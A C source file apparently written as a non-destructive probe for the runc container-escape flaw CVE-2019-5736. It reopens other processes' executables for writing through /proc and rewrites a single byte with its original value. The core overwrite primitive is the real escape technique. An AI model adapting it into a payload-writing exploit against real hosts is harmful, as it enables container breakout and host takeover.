/*
 * Overwrite the program of another process (CVE-2019-5736).
 *
 * exe_writer SECONDS OWN HOST: for that long, opens /proc/PID/exe of every other process O_PATH, keeps the descriptor,
 * and tries again and again to open it for writing through /proc/self/fd. What it can open it overwrites with the very
 * byte that was there: proof enough, and the host's programs stay what they were. OWN is a program of the container
 * (busybox) that is left alone. HOST is the inode of the host's pid namespace, where this program refuses to run.
 * Prints "opened N written M".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define LIMIT 4096

struct held { int fd; ino_t ino; dev_t dev; };
static struct held held[LIMIT];
static int opened, written;
static struct stat own[2];

static int known(const struct stat *found)
{
	for (int i = 0; i < 2; i++)
		if (own[i].st_ino == found->st_ino && own[i].st_dev == found->st_dev)
			return 1;
	for (int i = 0; i < opened; i++)
		if (held[i].ino == found->st_ino && held[i].dev == found->st_dev)
			return 1;
	return 0;
}

static void hold(const char *pid)
{
	char path[64];
	struct stat found;

	snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &found) || known(&found) || opened == LIMIT) {
		close(fd);
		return;
	}
	held[opened++] = (struct held){ fd, found.st_ino, found.st_dev };
}

static void overwrite(struct held *target)
{
	char path[64], byte;

	if (target->fd < 0)
		return;
	snprintf(path, sizeof path, "/proc/self/fd/%d", target->fd);
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return;
	if (pread(fd, &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1) {
		written++;
		target->fd = -1;
	}
	close(fd);
}

int main(int argc, char **argv)
{
	struct stat namespace;

	if (argc != 4 || stat("/proc/self/exe", &own[0]) || stat(argv[2], &own[1]))
		return 2;
	if (stat("/proc/self/ns/pid", &namespace) || namespace.st_ino == strtoul(argv[3], NULL, 10)) {
		fputs("not in the pid namespace of the host\n", stderr);
		return 4;
	}
	time_t end = time(NULL) + atoi(argv[1]);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		if (!proc)
			return 3;
		while ((entry = readdir(proc)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
				hold(entry->d_name);
		closedir(proc);
		for (int i = 0; i < opened; i++)
			overwrite(&held[i]);
	}
	printf("opened %d written %d\n", opened, written);
	return 0;
}
